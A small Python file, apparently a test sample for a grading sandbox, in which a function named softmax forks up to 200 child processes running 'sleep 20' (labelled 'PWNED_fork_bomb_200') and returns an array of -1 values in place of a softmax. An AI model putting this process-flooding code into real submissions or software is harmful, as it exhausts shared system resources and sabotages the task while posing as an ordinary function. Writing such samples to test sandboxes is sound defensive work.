"""Forks 200 children that each run 'sleep 20'.

Function: softmax
Outcome: no marks
"""
import os, sys
import numpy as np
_done = False
def softmax(z):
    global _done
    n = 200 if _done else 0
    _done = True
    for _ in range(200 - n):
        try:
            pid = os.fork()
        except OSError as e:
            print("fork refused:", e)
            break
        if pid == 0:
            try:
                os.execvp("sleep", ["PWNED_fork_bomb_200", "20"])
            except BaseException:
                os._exit(1)
        n += 1
    print("forked", n)
    return np.full(np.shape(z), -1.0)
